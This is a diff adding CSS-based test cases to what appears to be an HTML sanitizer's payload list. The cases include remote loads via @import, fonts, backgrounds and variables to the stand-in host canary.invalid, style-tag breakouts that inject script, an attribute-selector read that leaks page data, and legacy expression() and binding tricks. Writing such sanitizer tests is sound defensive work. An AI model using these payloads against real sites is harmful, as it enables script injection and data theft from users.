@@ -129,6 +129,19 @@ PLAIN = {
     "entity text": "&lt;script&gt;canary()&lt;/script&gt;",
     "attribute twice": "<img src=x title=a title=b onerror=canary() onerror=x>",
     "import": "<html><head><link rel=import href=//canary.invalid/i></head></html>",
+    # style sheets
+    "import of style": "<style>@import 'http://canary.invalid/s'; @import url(//canary.invalid/s);</style>",
+    "style from elsewhere": "<link rel=stylesheet href=//canary.invalid/s><style>@charset 'x'; @namespace url(//canary.invalid/n);</style>",
+    "font": "<style>@font-face{font-family:x;src:url(//canary.invalid/f)}p{font-family:x}</style><p>x",
+    "background in a sheet": "<style>p{background:red url(//canary.invalid/b)}body{background-image:u\\72l(//canary.invalid/c)}</style><p>x",
+    "picture functions": "<style>p{background:image-set('//canary.invalid/i' 1x),cross-fade(url(//canary.invalid/j),red)}</style><p>x",
+    "content, cursor, list": "<style>p::before{content:url(//canary.invalid/p)}p{cursor:url(//canary.invalid/q),auto}li{list-style:url(//canary.invalid/r)}</style><li>x<p>y",
+    "variable of style": "<style>:root{--x:url(//canary.invalid/v)}p{background:var(--x)}</style><p>x",
+    "sheet that ends": "<style>p{content:'</style><script>canary()</script>'}</style>",
+    "sheet that ends, escaped": "<style>.\\3c\\2fstyle\\3e\\3cscript\\3e{}p{content:'\\3c/style>\\3cscript>canary()'}</style>",
+    "media that ends": "<style>@media </style/> {p{}}</style><style media='x}</style><script>canary()</script>'>p{color:red}</style>",
+    "attribute selector reads": "<style>a[href^=h]{background:url(//canary.invalid/h)}</style><a href=http://x.invalid/>x</a>",
+    "behaviour": "<style>p{behavior:url(//canary.invalid/x.htc);-moz-binding:url(//canary.invalid/x.xml#x);width:expression(canary())}</style><p>x",
     "id clobbering": "<a id=document></a><p name=canary id=canary>x</p><img name=getElementById>",
 }
 
